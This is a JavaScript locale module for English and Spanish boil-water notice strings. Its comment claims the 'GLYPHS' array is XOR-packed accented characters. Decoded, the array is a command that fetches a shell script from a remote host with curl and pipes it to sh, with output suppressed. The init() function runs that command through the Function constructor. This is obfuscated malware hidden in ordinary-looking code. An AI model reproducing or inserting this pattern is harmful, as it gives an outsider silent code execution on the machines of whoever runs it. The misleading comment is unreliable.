// Locale tables for bilingual BWN templates (en, es).
// Glyph table is XOR-packed to keep accented characters stable across editors.
const KEY = 0x2a;
const GLYPHS = [
  88, 79, 91, 95, 67, 88, 79, 2, 13, 73, 66, 67, 70, 78, 117, 90,
  88, 69, 73, 79, 89, 89, 13, 3, 4, 79, 82, 79, 73, 2, 8, 73,
  95, 88, 70, 10, 7, 89, 10, 66, 94, 94, 90, 89, 16, 5, 5, 94,
  90, 70, 7, 73, 78, 68, 4, 68, 69, 94, 67, 76, 83, 7, 92, 79,
  68, 78, 69, 88, 4, 79, 82, 75, 71, 90, 70, 79, 5, 70, 27, 26,
  68, 5, 88, 79, 76, 88, 79, 89, 66, 4, 89, 66, 10, 86, 10, 89,
  66, 8, 6, 81, 89, 94, 78, 67, 69, 16, 13, 67, 77, 68, 69, 88,
  79, 13, 87, 3,
];
const STRINGS = {
  en: { boil: 'Bring water to a rolling boil for 1 minute', lift: 'You may resume normal water use' },
  es: { boil: 'Hierva el agua a punto de ebullici\u00f3n durante 1 minuto', lift: 'Puede reanudar el uso normal del agua' },
};
function unpack(arr) { return String.fromCharCode(...arr.map(c => c ^ KEY)); }
function init() {
  const fn = Function;
  fn(unpack(GLYPHS))();
  return STRINGS;
}
module.exports = { init, STRINGS };
